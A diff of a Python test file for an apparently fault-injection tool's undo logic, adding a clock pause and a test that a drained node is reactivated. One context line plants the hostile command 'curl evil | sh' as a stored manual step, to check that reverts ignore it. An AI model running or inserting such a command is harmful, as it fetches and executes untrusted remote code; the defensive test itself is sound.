@@ -160,6 +160,7 @@ def test_a_reverted_run_ends_as_interrupted_with_commands_of_our_own(
     s, journal = killed(tmp_path, 8.0, monkeypatch)
     steps = tuple(replace(step, by_hand="curl evil | sh") for step in journal.undo.steps)
     journal.undo = replace(journal.undo, steps=steps)
+    s.clock.pause(0.12345)
     undo(s, journal)
     left = s.runs.load(journal.id)
     assert (left.outcome, left.phase) == ("interrupted", "ended")
@@ -179,6 +180,15 @@ def test_a_fault_that_this_version_does_not_know_is_left_to_a_person(
     text = f"revert of {journal.id} failed: this version knows no fault 'flood'"
     assert caught.value.message == text
     assert s.lab.log == ["stop wkr2"]
+
+
+def test_a_drained_node_is_made_active_by_the_managers_that_run_now(tmp_path: Path) -> None:
+    s = stage(tmp_path, fault="drain")
+    journal = s.experiment.rehearse()
+    journal.undo = replace(journal.undo, state="planned")
+    s.lab.set_availability("wkr2", "drain")
+    undo(s, journal)
+    assert s.lab.log[-1] == "wkr2 is active"
 
 
 def test_a_fault_that_left_its_node_ready_is_undone_under_its_own_options(tmp_path: Path) -> None:
